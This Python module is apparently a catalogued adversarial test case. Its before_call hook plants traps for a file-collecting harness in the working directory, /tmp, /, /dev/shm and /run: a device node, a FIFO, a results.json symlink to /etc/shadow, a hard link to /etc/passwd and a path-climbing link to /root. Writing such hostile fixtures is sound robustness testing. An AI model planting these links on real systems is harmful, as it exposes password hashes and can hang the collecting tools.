"""Catalogue: 22, 23. Makes devices, pipes and links that could catch who collects files."""
import os
import stat


def before_call(args, kwargs):
    for folder in (".", "/tmp", "/", "/dev/shm", "/run"):
        for make in (
            lambda p: os.mknod(p + "/null", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
            lambda p: os.mkfifo(p + "/pipe"),
            lambda p: os.symlink("/etc/shadow", p + "/results.json"),
            lambda p: os.symlink("../../../../root", p + "/up"),
            lambda p: os.link("/etc/passwd", p + "/hard"),
            lambda p: os.mkdir(p + "/..."),
        ):
            try:
                make(folder)
                print("made in", folder)
            except OSError:
                pass
